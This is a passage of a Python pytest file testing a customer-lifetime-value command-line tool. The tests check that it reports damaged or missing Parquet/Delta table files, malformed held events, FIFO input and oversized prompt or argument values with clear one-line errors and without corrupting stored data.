    for args in (["stats"], ["ltv", "3"], ["ingest", MESSY]):
        before = files(messy / "data")
        result = clv(*args)
        if result.returncode:
            line = error_line(result)
            assert "is damaged" in line and "unexpected" not in line, (args, line)
            assert files(messy / "data") == before, args


@pytest.mark.parametrize("table", ["customers", "site_visits", "images", "orders"])
def test_a_missing_table_file_is_named_in_the_error(clv, seeded, table):
    """A file of the table gone while the log still names it: reading it, or ingesting the same keys again, says so
    naming that file, not another."""
    missing = table_files(seeded, table)[0]
    missing.unlink()
    before = files(seeded / "data")
    for args in (["stats"], ["ingest", SAMPLE]):
        result = clv(*args)
        assert result.returncode == 1 and missing.name in error_line(result), args
    assert files(seeded / "data") == before


def _resize(base: Path, path: Path) -> None:
    """Record a rewritten file's new size in the log entry that added it, as a writer of the table would have."""
    name = str(path.relative_to(events_dir(base)))
    for entry in (events_dir(base) / "_delta_log").glob("*.json"):
        def resized(actions: list) -> list:
            for action in actions:
                if "add" in action and action["add"]["path"] == name:
                    action["add"]["size"] = path.stat().st_size
            return actions
        edit_entry(entry, resized)


def _damage_parquet(kind: str, base: Path, path: Path) -> None:
    if kind == "garbage":
        path.write_bytes(b"garbage")
    elif kind == "cut-in-half":
        path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
    elif kind == "empty":
        path.write_bytes(b"")
    elif kind == "zeros-between-the-magic-bytes":
        path.write_bytes(b"PAR1" + b"\x00" * 64 + b"PAR1")
    elif kind == "amount-as-text":
        table = pq.read_table(path)
        index = table.schema.get_field_index("amount")
        pq.write_table(table.set_column(index, "amount", pa.array(["x"] * table.num_rows)), path)
        _resize(base, path)
    else:
        pq.write_table(pq.read_table(path).drop_columns(["customer_id"]), path)
        _resize(base, path)


READERS = {"orders": (["display", "orders"], ["ingest", SAMPLE]), "customer_totals": (["stats"], ["ltv", "3"])}


@pytest.mark.parametrize("table", READERS)
@pytest.mark.parametrize("kind", ["garbage", "cut-in-half", "empty", "zeros-between-the-magic-bytes", "amount-as-text",
                                  "a-column-missing"])
def test_a_damaged_parquet_file_is_one_error_line_naming_it(clv, seeded, kind, table):
    """Garbage, a cut, an empty file, zeros, a column of the wrong type: each command reading the file (the
    events of orders; the per-customer figures LTV and stats read) says so in one line naming it, and leaves it
    as it is. A file without one of the columns is what Delta readers take for nulls (files written before a
    column was added lack it): answered, or refused naming the file."""
    damaged_file = table_files(seeded, table)[0]
    _damage_parquet(kind, seeded, damaged_file)
    damaged = damaged_file.read_bytes()
    for args in READERS[table]:
        result = clv(*args)
        if kind == "a-column-missing" and result.returncode == 0:
            continue
        assert result.returncode == 1 and damaged_file.name in error_line(result), args
    assert damaged_file.read_bytes() == damaged


HELD_ODDITIES = [{}, {"event": 5}, {"raw": None}, {"event": {"type": ["x"]}, "source": 5, "position": "x", "reason": 7},
                 {"reason": "not-a-code", "message": {"nested": True}}]


@pytest.mark.parametrize("args", [["rejects"], ["rejects", "--format", "json"], ["stats"], ["reprocess"]],
                         ids=["rejects-table", "rejects-json", "stats", "reprocess"])
def test_hand_edited_held_events_of_any_shape_never_break_a_command(clv, seeded, args):
    """Held events with missing or mistyped fields (as a library user may commit them) are listed, counted and
    reprocessed."""
    store = DeltaStore(seeded / "data")
    with store.writing():
        store.commit(Change("hand edit", hold=HELD_ODDITIES, release_held=True))
    assert clv(*args).returncode == 0


def _blocked_on_a_pipe(pid: int, seconds: float) -> None:
    """Until the process waits on the FIFO (or seconds pass)."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            waiting = Path(f"/proc/{pid}/wchan").read_text()
        except OSError:
            return
        if waiting.startswith(("wait_for_partner", "fifo_open", "pipe_", "do_select", "do_sys_poll", "ep_poll",
                               "poll_schedule_timeout")):
            return
        time.sleep(0.05)


def test_an_ingest_waiting_on_a_fifo_does_not_lock_out_another_writer(clv, tmp_path, dirs):
    """`clv ingest FIFO` with no writer yet waits for one, but not while holding the store's write lock; once the
    FIFO is fed, both runs are stored."""
    fifo = tmp_path / "pipe.jsonl"
    os.mkfifo(fifo)
    waiting = subprocess.Popen([sys.executable, str(PROCESS), *dirs, "ingest", str(fifo)], cwd=ROOT,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        _blocked_on_a_pipe(waiting.pid, 15)
        other = clv("ingest", SAMPLE)
    finally:
        with within(15), open(fifo, "wb") as feed:
            feed.write(MESSY.read_bytes())
        out, err = waiting.communicate(timeout=60)
    assert "Traceback" not in out + err
    assert other.returncode == 0, other.stderr
    assert waiting.returncode == 0, err
    assert answer(clv("stats", "--format", "json"))["store_size"] == 10


MEGABYTE = 1 << 20
PASTED = {"option": "x" * MEGABYTE, "ingest-path": "1\n" + "a" * MEGABYTE, "customer-id": "7\n" + "c" * MEGABYTE,
          "ltv-x": "2\n" + "9" * MEGABYTE, "export-folder": "8\n" + "d" * MEGABYTE, "predict-x": "10\n" + "9" * MEGABYTE}


@pytest.mark.parametrize("typed", PASTED.values(), ids=PASTED.keys())
def test_a_megabyte_pasted_at_a_prompt_is_answered_quickly(clv, seeded, typed):
    """A 1 MB line at any prompt: answered within 2 s and not echoed back a megabyte long."""
    started = time.monotonic()
    result = clv("menu", stdin=typed + "\n\n\n\n4\n", session=True, limit=3)  # blank answers go back
    assert result.returncode == 0
    assert time.monotonic() - started < 2
    assert len(result.stderr) < 10_000, "an answer should not be echoed back a megabyte long"


HUGE_ARGUMENTS = {"ltv-x": ["ltv", "1" + "0" * 40], "display-limit": ["display", "--limit", "1" + "0" * 40],
                  "predict-top": ["predict", "--top", "1" + "0" * 40],
                  "predict-horizon": ["predict", "--horizon", "1000000000"],
                  "predict-holdout": ["predict", "--holdout", "1000000000"],
                  "ltv-x-of-5000-digits": ["ltv", "9" * 5000]}


@pytest.mark.parametrize("args", HUGE_ARGUMENTS.values(), ids=HUGE_ARGUMENTS.keys())
def test_a_huge_number_argument_is_answered_or_refused_quickly(clv, seeded, args):
    """X, --limit, --top, --horizon, --holdout far beyond any store: quick answer or one-line refusal."""
    result = clv(*args, limit=3)
    assert result.returncode in (0, 1, 2)
    assert len(result.stderr) < 10_000
